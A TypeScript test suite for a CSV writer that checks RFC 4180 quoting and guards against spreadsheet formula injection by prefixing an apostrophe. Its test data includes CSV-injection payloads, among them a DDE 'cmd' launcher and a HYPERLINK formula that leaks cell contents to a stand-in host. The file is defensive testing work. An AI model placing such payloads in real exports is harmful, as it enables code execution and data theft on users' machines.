import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvCell, csvLine } from './csv.ts'

describe('a cell', () => {
  test.each([
    // as it is
    ['', ''],
    ['Northwind', 'Northwind'],
    [' spaced ', ' spaced '],
    ['Größe 日本 😀', 'Größe 日本 😀'],
    ["it's", "it's"],
    ['a;b', '"a;b"'],
    ['2026-06-15', '2026-06-15'],
    ['C=1', 'C=1'],
    ['a@b.test', 'a@b.test'],

    // quoted as RFC 4180 has it
    ['a,b', '"a,b"'],
    ['say "yes"', '"say ""yes"""'],
    ['"', '""""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['ends in return\r', '"ends in return\r"'],

    // numbers are numbers, whatever their sign
    ['-5', '-5'],
    ['+5', '+5'],
    ['-0.5', '-0.5'],
    ['+12125550100', '+12125550100'],
    ['-1,5', '"-1,5"'],

    // what a spreadsheet would run is written as text
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['-', "'-"],
    ['=', "'="],
    ['+1 212 555 0100', "'+1 212 555 0100"],
    ['-2+3+cmd|" /C calc"!A0', '"\'-2+3+cmd|"" /C calc""!A0"'],
    ['=HYPERLINK("http://x.test?"&A1,"x")', '"\'=HYPERLINK(""http://x.test?""&A1,""x"")"'],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    ['\n=1+1', '"\'\n=1+1"'],
    ['\r\n=1+1', '"\'\r\n=1+1"'],
    ['-5\n=1+1', '"\'-5\n=1+1"'],
    ['＝1+1', "'＝1+1"],
    ['＋1+1', "'＋1+1"],
    ['－1+1', "'－1+1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
  ])('%j is written %s', (value, written) => {
    expect(csvCell(value)).toBe(written)
  })

  test('never begins as a formula does, unless it is a number', () => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', '＝', '＋', '－', '＠', '1', "'", '')
    const nasty = fc.tuple(fc.array(start, { maxLength: 4 }), fc.string({ maxLength: 8 }))
    fc.assert(
      fc.property(nasty, ([first, rest]) => {
        const [read] = parsed(csvLine([first.join('') + rest]))[0]!
        const isNumber = /^[+-]?\d+(?:[.,]\d+)?$/.test(read!)
        expect(isNumber || !/^[=+\-@\t\r\n＝＋－＠]/.test(read!), JSON.stringify(read)).toBe(true)
      }),
      { numRuns: 5000 },
    )
  })

  test('left as people typed it would be a formula, so the law above can be broken', () => {
    const quotedOnly = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value)
    expect(parsed(`${quotedOnly('=1+1')}\r\n`)[0]![0]).toMatch(/^=/)
  })
})

describe('a line', () => {
  test.each([
    [[], '\r\n'],
    [['a'], 'a\r\n'],
    [['a', 'b', ''], 'a,b,\r\n'],
    [['', ''], ',\r\n'],
    [['a,b', 'c"d', '=1'], '"a,b","c""d",\'=1\r\n'],
  ])('of %j is %j', (cells, line) => {
    expect(csvLine(cells)).toBe(line)
  })

  test('read again gives the cells, a formula with its apostrophe', () => {
    const cells = fc.array(fc.string({ maxLength: 12, unit: 'binary' }), { minLength: 1, maxLength: 5 })
    const table = fc.array(cells, { minLength: 1, maxLength: 4 })
    fc.assert(
      fc.property(table, (rows) => {
        const read = parsed(rows.map(csvLine).join(''))
        expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length))
        for (const [r, row] of rows.entries())
          for (const [c, cell] of row.entries()) expect([cell, `'${cell}`]).toContain(read[r]![c])
      }),
      { numRuns: 2000 },
    )
  })
})

/** Reads CSV by RFC 4180, a second time and independently; every line ends in CR LF. */
function parsed(text: string): readonly (readonly string[])[] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at]!
    if (isQuoted && letter === '"' && text[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (letter === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted
    else if (isQuoted) cell += letter
    else if (letter === ',') {
      row.push(cell)
      cell = ''
    } else if (letter === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell])
      row = []
      cell = ''
      at += 1
    } else cell += letter
  }
  if (isQuoted || cell !== '' || row.length > 0) throw new Error('the text ends in the middle of a line')
  return rows
}
